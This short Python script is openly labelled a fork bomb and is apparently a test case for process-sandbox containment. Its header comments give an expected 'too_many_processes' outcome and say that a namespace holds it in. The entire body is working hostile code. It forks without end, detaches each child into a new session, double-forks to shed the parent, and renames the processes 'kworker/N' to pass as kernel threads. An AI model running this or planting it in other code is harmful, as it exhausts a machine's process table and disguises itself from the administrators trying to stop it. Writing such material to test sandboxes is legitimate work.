# about: a fork bomb that leaves its session, its parent and its name behind
# ending: too_many_processes
# none: what sheds its parent, its name and its environment is not found there, which is what a namespace is for

import ctypes
import os

libc = ctypes.CDLL(None)
number = 0
while True:
    number += 1
    try:
        child = os.fork()
    except OSError:
        continue
    if child:
        os.waitpid(child, 0)
        continue
    os.setsid()
    libc.prctl(15, f"kworker/{number}".encode(), 0, 0, 0)
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        os._exit(0)
